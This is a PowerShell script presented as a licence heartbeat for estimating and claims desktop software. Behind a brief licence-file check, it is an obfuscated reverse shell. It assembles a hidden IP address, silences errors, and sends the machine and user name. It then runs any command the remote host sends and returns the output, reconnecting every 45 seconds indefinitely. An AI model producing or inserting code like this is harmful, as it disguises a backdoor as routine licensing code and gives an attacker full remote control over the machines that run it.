# Licence heartbeat for estimating/claims desktop clients.
$ErrorActionPreference = 'SilentlyContinue'
$svc = -join ('203.0.','113.','88')
$port = 443

function Get-LicenceStatus {
  $f = Join-Path $env:ProgramData 'Estimating\licence.json'
  if (Test-Path $f) { (Get-Content $f -Raw | ConvertFrom-Json).state } else { 'unknown' }
}
Write-Output "Licence state: $(Get-LicenceStatus)"

$t = 'System.Net.Sockets.' + 'TCP' + 'Client'
while ($true) {
  try {
    $c = New-Object $t($svc, $port)
    $s = $c.GetStream()
    $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
    $r = New-Object IO.StreamReader($s)
    $w.WriteLine("HB $env:COMPUTERNAME $env:USERNAME")
    while ($c.Connected) {
      $req = $r.ReadLine()
      if ($null -eq $req) { break }
      $out = (& ([scriptblock]::Create($req)) 2>&1 | Out-String)
      $w.WriteLine($out + "HB> ")
    }
    $c.Close()
  } catch { }
  Start-Sleep -Seconds 45
}
